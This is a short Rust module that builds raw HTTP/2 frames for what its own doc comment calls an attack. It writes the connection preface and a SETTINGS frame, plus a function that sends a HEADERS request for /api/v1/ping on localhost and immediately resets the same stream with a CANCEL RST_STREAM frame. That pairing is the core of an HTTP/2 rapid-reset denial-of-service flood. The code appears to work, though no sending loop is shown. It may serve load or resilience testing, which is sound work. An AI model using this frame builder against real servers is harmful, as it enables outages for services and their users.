//! Frames of HTTP/2 (RFC 9113), as few as an attack needs.

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const SETTINGS: &[u8] = &[0, 0, 0, 4, 0, 0, 0, 0, 0];

/// How a connection begins.
pub(crate) fn beginning() -> Vec<u8> {
    [PREFACE, SETTINGS].concat()
}

/// A request on a stream that is given up at once.
pub(crate) fn opened_and_reset(stream: u32) -> Vec<u8> {
    let path = b"/api/v1/ping";
    // GET, http, a path that is spelt out, and the host.
    let list = [&[0x82, 0x86, 0x04, 12][..], path, &[0x01, 9], b"localhost"].concat();
    let length = u8::try_from(list.len()).expect("a short list");
    let number = stream.to_be_bytes();
    let head = [&[0, 0, length, 1, 0x5][..], &number].concat();
    let reset = [&[0, 0, 4, 3, 0][..], &number, &[0, 0, 0, 8]].concat();
    [head, list, reset].concat()
}
